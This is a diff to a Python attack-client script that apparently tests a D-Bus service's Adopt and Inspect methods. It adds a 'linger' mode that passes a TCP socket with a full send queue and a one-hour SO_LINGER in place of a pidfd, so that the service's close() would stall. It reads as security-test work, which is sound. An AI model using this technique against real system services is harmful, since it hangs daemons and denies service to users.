@@ -21,6 +21,12 @@ along with a call.
         JSON count of the answers by error name.
     attack3-client.py wrong-sig PID N
         Adopt with signature "hha{sv}"... (N 'h' args): the answer.
+    attack3-client.py linger MEMBER
+        MEMBER (Adopt or Inspect) whose "pidfd" is a TCP socket told to
+        linger an hour with its send queue full (its peer, kept open here,
+        never reads), our own copy closed once sent: its last close would
+        wait. Prints "SENT", then the answer as JSON, and waits for stdin
+        to close (the peer lives until then).
 
 Standard library only (os.pidfd_open, socket.send_fds: Python >= 3.9).
 """
@@ -190,9 +196,50 @@ def send_adopt(c, pidfd, extra=(), n_h=1, interactive=True):
                   fds=[pidfd] + list(extra), flags=4 if interactive else 0)
 
 
+def lingering_socket():
+    """A connected TCP socket whose close() would wait an hour, and its
+    peer (which never reads)."""
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(1)
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
+    s.connect(srv.getsockname())
+    peer, _ = srv.accept()
+    srv.close()
+    peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    s.setblocking(False)
+    try:
+        while True:
+            s.send(b"x" * 65536)
+    except BlockingIOError:
+        pass
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
+    return s, peer
+
+
+def linger(member):
+    c = Conn()
+    s, peer = lingering_socket()
+    if member == "Adopt":
+        serial = c.send(BUS, PATH, BUS, "Adopt", sig="ha{sv}", body=adopt_body(),
+                        fds=[s.fileno()])
+    else:
+        serial = c.send(BUS, PATH, BUS, member, sig="h", body=struct.pack("<I", 0),
+                        fds=[s.fileno()])
+    s.close()
+    print("SENT", flush=True)
+    print(json.dumps(c.wait_reply(serial)), flush=True)
+    sys.stdin.read()
+    peer.close()
+    return 0
+
+
 def main(argv):
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    if argv[1] == "linger":
+        return linger(argv[2])
     verb, pid = argv[1], int(argv[2])
     c = Conn()
     pidfd = os.pidfd_open(pid)
